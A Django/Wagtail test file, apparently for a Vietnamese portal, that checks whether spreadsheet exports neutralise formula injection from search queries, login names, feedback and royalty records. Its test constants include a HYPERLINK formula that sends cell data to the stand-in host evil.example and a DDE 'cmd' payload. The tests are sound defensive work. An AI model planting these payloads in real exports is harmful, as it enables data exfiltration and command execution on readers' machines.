"""Formula injection (issue #19, item 5): text a stranger can type (a search query, a sign-in
name, a feedback form) never reaches a spreadsheet the portal writes for people as a live
formula; real numbers stay numbers. The exchange format with the national database is exact
and exempt (tests/legal_docs/test_exchange.py)."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from wagtail.contrib.search_promotions.models import Query

from home.models import Feedback
from portal.core import roles
from tests.builders import genre
from workflow.models import RoyaltyEntry, RoyaltyPeriod

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
CALC = "=cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [HYPERLINK, "=1+2", CALC, "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"]


def csv_cells(response):
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    assert response.status_code == 200
    content = b"".join(response) if response.streaming else response.content
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def is_number(text):
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def live(cells):
    """Cells a spreadsheet program would run, or read as the start of a formula: formulas in
    a workbook, text starting with = + - @ tab or CR anywhere (numbers aside)."""
    found = []
    for cell in cells:
        value = getattr(cell, "value", cell)
        if getattr(cell, "data_type", None) == "f":
            found.append(value)
        elif isinstance(value, str) and value.startswith(DANGEROUS) and not is_number(value):
            found.append(value)
    return found


def test_the_helper_neutralises_text_and_keeps_numbers():
    from portal.core.spreadsheets import neutralise

    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
    assert neutralise("Hà Nội") == "Hà Nội"
    assert neutralise(-50_000) == -50_000 and neutralise(Decimal("-1.5")) == Decimal("-1.5")
    assert neutralise(None) is None


def test_activity_report_workbook_holds_queries_and_sign_in_names_as_text(client, login):
    today = timezone.localdate()
    Query.get(HYPERLINK).add_hit(date=today)
    client.post(reverse("wagtailadmin_login"), {"username": "=1+2", "password": "sai-mat-khau"})
    login(roles.DIRECTORS)
    period = {"tu_ngay": today.strftime("%d/%m/%Y"), "den_ngay": today.strftime("%d/%m/%Y")}
    cells = xlsx_cells(client.get(reverse("portal_report_xlsx"), period))
    values = [cell.value for cell in cells]
    assert "'" + Query.get(HYPERLINK).query_string in values
    assert "'=1+2" in values
    assert live(cells) == []


def test_feedback_exports_hold_no_formula(client, login):
    Feedback.objects.create(name=CALC, contact="@evil", subject="-2+3", content=HYPERLINK)
    login(roles.OFFICE)
    url = reverse("wagtailsnippets_home_feedback:list")
    cells = csv_cells(client.get(url, {"export": "csv"}))
    assert "'" + CALC in cells and "'@evil" in cells
    assert live(cells) == []
    cells = xlsx_cells(client.get(url, {"export": "xlsx"}))
    assert "'" + CALC in [cell.value for cell in cells]
    assert live(cells) == []


def test_system_log_export_holds_no_formula(client, login):
    client.post(reverse("wagtailadmin_login"), {"username": CALC, "password": "sai-mat-khau"})
    login(roles.DIRECTORS)
    today = timezone.localdate()
    params = {
        "action": "portal.login_failed",
        "timestamp_from": (today - timedelta(days=1)).isoformat(),
        "timestamp_to": today.isoformat(),
    }
    cells = csv_cells(client.get(reverse("audit_log"), {**params, "export": "csv"}))
    assert "'" + CALC in cells
    assert live(cells) == []


def test_royalty_exports_hold_no_formula_and_keep_negative_amounts(client, team):
    today = timezone.localdate()
    period = RoyaltyPeriod.objects.create(
        name="Kỳ công thức", start=today, end=today + timedelta(days=30), point_value=85_000
    )
    entry = RoyaltyEntry.objects.create(
        period=period,
        title="=1+2",
        author_name="@tac-gia",
        unit="-Phòng",
        genre=genre(),
        points=Decimal(2),
        note=HYPERLINK,
    )
    RoyaltyEntry.objects.create(
        period=period,
        title="Điều chỉnh",
        author_name="@tac-gia",
        unit="-Phòng",
        genre=genre(),
        points=Decimal(-2),
        adjusts=entry,
    )
    client.force_login(team["board_a"])
    cells = xlsx_cells(client.get(reverse("workflow_royalty_register_xlsx", args=(period.pk,))))
    values = [cell.value for cell in cells]
    assert "'=1+2" in values and "'@tac-gia" in values and "'-Phòng" in values
    assert -170_000 in values  # a negative amount is still a number
    assert live(cells) == []
    url = reverse("wagtailsnippets_workflow_royaltyentry:list")
    cells = csv_cells(client.get(url, {"export": "csv", "period": period.pk}))
    assert "'=1+2" in cells and "-2.00" in cells  # the adjustment's points, a number
    assert live(cells) == []


def test_wagtail_reports_hold_no_formula(client, login, news):
    news.title = "=1+2"
    news.save_revision(log_action=True)
    login(roles.OPERATORS)
    cells = csv_cells(client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"}))
    assert "'=1+2" in cells
    assert live(cells) == []


def test_spreadsheets_are_written_in_one_place():
    # A new export written by hand would skip the neutralisation: only the helper and the
    # exact exchange format (exempt) write CSV or XLSX.
    root = Path(settings.BASE_DIR)
    writers = {
        str(path.relative_to(root))
        for path in root.glob("*/**/*.py")
        if not path.relative_to(root).parts[0].startswith((".", "node_modules", "tests"))
        and re.search(r"Workbook\(|csv\.writer|DictWriter", path.read_text(encoding="utf-8"))
    }
    assert writers == {"portal/core/spreadsheets.py", "legal_docs/exchange.py"}


def test_every_listing_names_its_sheet_and_writes_yes_no_and_empty_cells():
    from portal.core.spreadsheets import readable, sheet_title

    class Listing:
        page_title = "Phản ánh: kiến nghị [mới]"

    assert sheet_title(Listing()) == "Phản ánh  kiến nghị  mới"
    assert sheet_title(object()) == "Dữ liệu"
    assert [readable(True), readable(False), readable(None)] == ["Có", "Không", ""]
    assert readable({"ip": "127.0.0.1", "changes": {"email": ["a", "b"]}}) == (
        "ip: 127.0.0.1\nchanges › email: a, b"
    )
    assert readable("=1+2") == "'=1+2" and readable(-5) == -5
